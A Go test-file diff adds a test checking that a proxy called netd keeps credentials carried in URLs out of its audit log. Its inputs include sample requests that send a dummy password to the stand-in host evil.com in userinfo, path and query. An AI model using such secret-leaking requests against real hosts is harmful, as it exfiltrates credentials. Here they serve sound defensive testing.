@@ -255,3 +255,23 @@ func TestChunkedBodyEndsAtItsEnd(t *testing.T) {
 		t.Fatalf("upstream saw %q\nwant %q", seen, want)
 	}
 }
+
+// TestNoSecretsInAudit proves that userinfo and URL paths and queries, which
+// can carry credentials, never reach netd's log, denied or allowed.
+func TestNoSecretsInAudit(t *testing.T) {
+	s := newStack(t, stackOpts{spec: tableSpec})
+	for _, raw := range []string{
+		connect("user:s3cr3tpw@evil.com:443"),
+		connect("s3cr3tpw@api.example.com:443"),
+		get("http://u:s3cr3tpw@plain.test/x", "plain.test"),
+		get("http://evil.com/hook/s3cr3tpw?token=s3cr3tpw", "evil.com"),
+		get("http://plain.test/hook/s3cr3tpw?token=s3cr3tpw", "plain.test"),
+		get("http://plain.test/\u00e9s3cr3tpw", "plain.test"),
+		get("http://plain.test/s3cr3tpw#frag", "plain.test"),
+	} {
+		roundTrip(t, s.relayAddr, raw, 0)
+	}
+	if logs := s.logs.String(); strings.Contains(logs, "s3cr3tpw") {
+		t.Fatalf("a secret reached the log:\n%s", logs)
+	}
+}
